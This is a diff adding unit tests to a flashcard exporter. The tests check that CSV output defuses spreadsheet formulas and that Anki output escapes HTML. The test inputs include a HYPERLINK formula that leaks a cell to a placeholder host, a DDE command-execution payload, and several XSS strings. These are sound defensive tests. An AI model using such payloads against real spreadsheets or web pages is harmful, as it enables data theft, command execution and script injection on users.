@@ -126,6 +126,32 @@ describe('cards of a small course', async () => {
   });
 });
 
+describe('hostile card text', () => {
+  const card = (front: string, back: string, chapterTitle = 'Chapter'): Card => ({
+    guid: 'g', kind: 'definition', front, back, chapter: 1, chapterTitle, chapterSlug: '01-chapter', sources: [{ file: 'c.md', line: 1 }],
+  } as Card);
+
+  it('cards.csv neutralises formulas: cells starting with = + - @, tab or CR get a leading quote', () => {
+    const hostile = ['=HYPERLINK("http://x.test/?"&A1,"open")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '＝1+1', 'plain = text'];
+    const csv = cardsCsv(hostile.map((h) => card(h, h)));
+    const records = parse(csv, { columns: true }) as Array<Record<string, string>>;
+    expect(records.map((r) => r.front)).toEqual([
+      '\'=HYPERLINK("http://x.test/?"&A1,"open")', '\'+1+cmd|\' /C calc\'!A0', '\'-2+3', '\'@SUM(A1:A9)', '\'\t=1+1', '\'\r=1+1', '\'＝1+1', 'plain = text',
+    ]);
+    expect(records.every((r) => !/^[=+\-@\t\r＝]/.test(r.front!) && !/^[=+\-@\t\r＝]/.test(r.back!))).toBe(true);
+  });
+
+  it('anki.txt has no raw HTML in any column: fields escaped, deck and tag names stripped of markup', () => {
+    const course = { ...courseFromText('# Chapter 1: X\n\nText.\n').course, title: 'Deck <img src=x onerror=alert(1)> & <b>co</b>' };
+    const anki = ankiText(course, [card('<script>alert(1)</script>', 'a < b & "c"', 'Intro <svg onload=alert(2)>')]);
+    const row = anki.trimEnd().split('\n').at(-1)!.split('\t');
+    expect(row[2]).toBe('Deck ＆ co::01 Intro');
+    expect(row[4]).toBe('&lt;script&gt;alert(1)&lt;/script&gt;');
+    expect(row[5]).toMatch(/^a &lt; b &amp; &quot;c&quot;<br><br><small>/);
+    expect(anki).not.toMatch(/<(?!br>|small>|\/small>)/);
+  });
+});
+
 describe('cloze', () => {
   it('hides the punchline after a dash, else the last content word', () => {
     expect(pickCloze('Maps are models — useful because they leave things out.', 'Maps')).toEqual({ before: 'Maps are models — ', answer: 'useful because they leave things out', after: '.' });
